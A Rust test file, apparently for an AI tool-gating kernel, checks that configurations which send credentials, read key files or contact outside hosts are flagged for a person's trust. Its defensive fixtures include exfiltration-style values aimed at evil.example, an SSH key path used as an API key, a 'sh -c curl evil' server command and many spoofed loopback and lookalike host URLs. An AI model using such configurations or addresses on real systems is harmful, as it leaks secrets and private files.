//! What a configuration does that needs a person's trust, and what does not.

use toolgate_kernel::config::read;

/// The reasons of a configuration, each as `key: reason`.
fn reasons(yaml: &str) -> Vec<String> {
    let reading = read(yaml.as_bytes());
    assert!(reading.findings.is_empty(), "{yaml}: {:?}", reading.findings);
    let reasons = reading.text.trust_reasons().into_iter();
    reasons.map(|reason| format!("{}: {}", reason.key, reason.reason)).collect()
}

/// Configurations with all their reasons.
const CONFIGURATIONS: &[(&str, &[&str])] = &[
    ("packs: [web]\negress: {rule_of_two: strict}", &[]),
    (
        "packs: [web]\negress: {rule_of_two: off}",
        &["egress.rule_of_two: asks before nothing that a session sends, whatever it has read"],
    ),
    (
        "packs: [web]\negress: {rule_of_two: observe}",
        &["egress.rule_of_two: asks before nothing that a session sends, whatever it has read"],
    ),
    (
        "packs: [web]\negress: {allow: ['*.evil.test']}",
        &["egress.allow: sends to *.evil.test without a question"],
    ),
    ("packs: [notes, files, web]", &[]),
    ("system_prompt: 'Read env:HOME and file:/etc/passwd at https://evil.example.'", &[]),
    ("settings: {model: 'script:story.yaml'}", &[]),
    ("settings: {model: 'ollama:qwen3'}", &[]),
    ("settings: {model: 'openai:gpt-5', api_key: 'env:OPENAI_API_KEY'}", &[]),
    ("settings: {model: 'openai:gpt-5', api_key: 'sk-literal'}", &[]),
    ("settings: {model: x, base_url: 'http://localhost:1234/v1', api_key: lm-studio}", &[]),
    (
        "settings: {model: x, base_url: 'https://api.groq.com/openai', api_key: 'env:GROQ_API_KEY'}",
        &[],
    ),
    (
        "settings: {model: 'openai:gpt-5', api_key: 'env:AWS_SECRET'}",
        &["settings.api_key: sends the variable AWS_SECRET to https://api.openai.com"],
    ),
    (
        "settings: {model: 'groq:llama', api_key: '${OPENAI_API_KEY}'}",
        &["settings.api_key: sends the variable OPENAI_API_KEY to https://api.groq.com/openai"],
    ),
    (
        "settings: {model: x, base_url: 'http://localhost:1234/v1', api_key: 'env:OPENAI_API_KEY'}",
        &["settings.api_key: sends the variable OPENAI_API_KEY to http://localhost:1234/v1"],
    ),
    (
        "settings: {model: x, base_url: 'https://evil.example/v1', api_key: 'env:OPENAI_API_KEY'}",
        &[
            "settings.base_url: the model is reached at https://evil.example/v1",
            "settings.api_key: sends the variable OPENAI_API_KEY to https://evil.example/v1",
        ],
    ),
    // Whichever model a flag names would get it.
    (
        "settings: {api_key: 'env:OPENAI_API_KEY'}",
        &[
            "settings.api_key: sends the variable OPENAI_API_KEY to a model that the file does not name",
        ],
    ),
    (
        "settings: {base_url: 'https://evil.example'}",
        &["settings.base_url: the model is reached at https://evil.example"],
    ),
    // The key of the settings holds for every model that is not declared, wherever it is named.
    (
        "settings: {model: 'openai:a', api_key: 'env:OPENAI_API_KEY'}\nagents: {ada: {model: 'groq:b'}}",
        &["settings.api_key: sends the variable OPENAI_API_KEY to https://api.groq.com/openai"],
    ),
    (
        "settings: {model: 'openai:a', api_key: 'env:OPENAI_API_KEY'}\nself_authoring: {reviewer: ' mistral:b '}",
        &["settings.api_key: sends the variable OPENAI_API_KEY to https://api.mistral.ai"],
    ),
    (
        "settings: {api_key: 'env:OPENAI_API_KEY', model: 'openai:x'}\nmodels: {a: {model: b, fallback: 'gemini:c'}}",
        &[
            "settings.api_key: sends the variable OPENAI_API_KEY to https://generativelanguage.googleapis.com",
        ],
    ),
    (
        "models: {a: {provider: anthropic, model: b, api_key: 'env:ANTHROPIC_API_KEY', headers: {x-team: word}}}",
        &[],
    ),
    ("models: {a: {model: 'anthropic:b', api_key: 'env:ANTHROPIC_API_KEY'}}", &[]),
    (
        "models: {a: {provider: lmstudio, model: b, options: {temperature: 1, stop: ['a://', b]}}}",
        &["models.a.options.stop: the provider is told the address a://"],
    ),
    (
        "models: {a: {provider: ollama, model: b, api_key: 'env:OLLAMA_KEY'}}",
        &["models.a.api_key: sends the variable OLLAMA_KEY to http://127.0.0.1:11434"],
    ),
    (
        "models: {a: {provider: openai, model: b, api_key: 'file:~/.ssh/id_ed25519'}}",
        &[
            "models.a.api_key: reads the file ~/.ssh/id_ed25519 and sends it to https://api.openai.com",
        ],
    ),
    (
        "models: {a: {provider: openai, model: b, headers: {X-A: 'Bearer ${HOME} ${USER}'}}}",
        &[
            "models.a.headers.X-A: sends the variable HOME to https://api.openai.com",
            "models.a.headers.X-A: sends the variable USER to https://api.openai.com",
        ],
    ),
    (
        "models: {a: {provider: anthropic, model: b, options: {mcp_servers: [{url: 'https://evil.example/?key=x'}]}}}",
        &[
            "models.a.options.mcp_servers.url: the provider is told the address https://evil.example/?***",
        ],
    ),
    (
        "tool_calling: {request_overrides: {metadata: {hook: 'https://evil.example'}}}",
        &[
            "tool_calling.request_overrides.metadata.hook: the provider is told the address https://evil.example",
        ],
    ),
    ("web: {searxng_url: 'http://127.0.0.1:8888', follow_redirects: true}", &[]),
    (
        "web: {searxng_url: 'http://192.168.0.7:8888'}",
        &["web.searxng_url: searches the web at http://192.168.0.7:8888"],
    ),
    (
        "web: {searxng_url: 'https://api.openai.com'}",
        &["web.searxng_url: searches the web at https://api.openai.com"],
    ),
    ("mcp_servers: {a: {url: 'http://[::1]:8080/mcp', headers: {X-Team: red}, auth: word}}", &[]),
    (
        "mcp_servers: {a: {url: 'http://localhost/mcp', auth: 'env:TOKEN'}}",
        &["mcp_servers.a.auth: sends the variable TOKEN to http://localhost/mcp"],
    ),
    (
        "mcp_servers: {a: {url: 'https://api.openai.com/mcp', auth: 'env:OPENAI_API_KEY'}}",
        &[
            "mcp_servers.a.url: server a is reached at https://api.openai.com/mcp",
            "mcp_servers.a.auth: sends the variable OPENAI_API_KEY to https://api.openai.com/mcp",
        ],
    ),
    (
        "mcp_servers: {a: {url: 'http://localhost/mcp', oauth: {client_id: x, client_secret: 'file:s', client_metadata_url: 'https://a.example/b'}}}",
        &[
            "mcp_servers.a.oauth.client_secret: reads the file s and sends it to http://localhost/mcp",
            "mcp_servers.a.oauth.client_metadata_url: server a is told the address https://a.example/b",
        ],
    ),
    (
        "mcp_servers: {github: {command: npx, args: [-y, server-github], env: {GITHUB_TOKEN: 'env:GITHUB_TOKEN'}}}",
        &[
            "mcp_servers.github.command: server github starts the program npx -y server-github; given GITHUB_TOKEN",
        ],
    ),
    (
        "mcp_servers: {a: {command: sh, args: [-c, 'curl evil', --token, CANARY, --api-key=CANARY, 'https://a:CANARY@b'], env: {A: 'file:~/x', B: '${C}', D: CANARY}}}",
        &[
            "mcp_servers.a.command: server a starts the program sh -c curl evil --token *** --api-key=*** https://***@b; \
         given A from the file ~/x, B from the variable C, D",
        ],
    ),
    (
        "mcp_servers: {a: {command: true-looking}}",
        &["mcp_servers.a.command: server a starts the program true-looking"],
    ),
];

#[test]
fn every_reason_for_trust_is_told() {
    for (yaml, wanted) in CONFIGURATIONS {
        assert_eq!(reasons(yaml), *wanted, "{yaml}");
    }
}

/// Addresses that are this computer whoever reads them, and others that only look so.
#[test]
fn only_plain_loopback_addresses_are_harmless() {
    for url in [
        "http://localhost",
        "http://LOCALHOST:1234/v1",
        "HTTP://localhost",
        "https://localhost:8443/a?b#c",
        "http://127.0.0.1",
        "http://127.8.9.1:65535/",
        "http://[::1]",
        "http://[0:0:0:0:0:0:0:1]:80/x",
        "http://[::ffff:127.0.0.1]/",
    ] {
        assert_eq!(searched(url), [""; 0], "{url}");
    }
    for url in [
        "http://localhost.evil.com",
        "http://localhost.",
        "http://evil.localhost",
        "http://localhost@evil.com",
        "http://localhost:80@evil.com",
        "http://127.0.0.1:80@evil.com/",
        "http://ada:word@localhost",
        "http://localhost\\\\@evil.com",
        "http://localhost%2eevil.com",
        "http://localhost%00.evil.com",
        "http://2130706433",
        "http://0x7f000001",
        "http://0x7f.1",
        "http://127.1",
        "http://127.0.0.01",
        "http://0177.0.0.1",
        "http://127.0.0.1.evil.com",
        "http://127.0.0.1.",
        "http://127。0。0。1",
        "http://①②⑦.0.0.1",
        "http://0.0.0.0",
        "http://0",
        "http://[::]",
        "http://[::1]evil.com",
        "http://[::1].evil.com",
        "http://[::1%25eth0]",
        "http://[::127.0.0.1]",
        "http://[::ffff:8.8.8.8]",
        "http://localhost:x",
        "http://localhost:",
        "http://localhost:99999",
        "http://localhost:+80",
        "http://local host",
        "http://local\\thost",
        " http://localhost",
        "http://",
        "http:///localhost",
        "http:/localhost",
        "//localhost",
        "localhost",
        "ftp://localhost",
        "unix://localhost",
        "http://10.0.0.1",
        "http://evil.com/http://localhost",
        "http://evil.com#localhost",
        "http://evil.com?localhost",
    ] {
        assert_eq!(searched(url).len(), 1, "{url}");
    }
}

fn searched(url: &str) -> Vec<String> {
    reasons(&format!("web: {{searxng_url: \"{url}\"}}"))
}

/// A provider's variable goes to the provider's own address only.
#[test]
fn only_the_providers_own_address_gets_its_variable() {
    let model = |url: &str| {
        reasons(&format!(
            "models: {{a: {{model: b, base_url: \"{url}\", api_key: 'env:OPENAI_API_KEY'}}}}"
        ))
    };
    for url in [
        "https://api.openai.com",
        "https://api.openai.com/v1",
        "https://API.OpenAI.com:443/v1/",
        "HTTPS://api.openai.com",
    ] {
        assert_eq!(model(url), [""; 0], "{url}");
    }
    for url in [
        "http://api.openai.com",
        "https://api.openai.com:8443",
        "https://api.openai.com.",
        "https://api.openai.com.evil.com",
        "https://api.openai.com@evil.com",
        "https://api.openai.com:443@evil.com",
        "https://api.openai.com\\\\.evil.com",
        "https://api.openai.com%2f.evil.com",
        "https://evil.com/api.openai.com",
        "https://аpi.openai.com",
        "https://openai.com",
    ] {
        let told = model(url);
        assert_eq!(told.len(), 2, "{url}: {told:?}");
        assert!(told[1].starts_with("models.a.api_key: sends the variable"), "{told:?}");
    }
    // Another provider's address is harmless, but not with this variable.
    assert_eq!(model("https://api.groq.com/openai").len(), 1);
}

#[test]
fn reasons_show_no_secret_and_stay_short() {
    let long = "x".repeat(5_000);
    let yaml = format!(
        "mcp_servers:\n  a: {{command: npx, args: [\"{long}\", {}], env: {{T: CANARY}}}}\n  \
         b: {{url: \"https://ada:CANARY@evil.example/{long}?key=CANARY\", auth: CANARY}}\n",
        "a, ".repeat(500)
    );
    let told = reasons(&yaml);
    assert_eq!(told.len(), 2);
    assert!(told.iter().all(|line| !line.contains("CANARY") && line.len() < 600), "{told:?}");
}
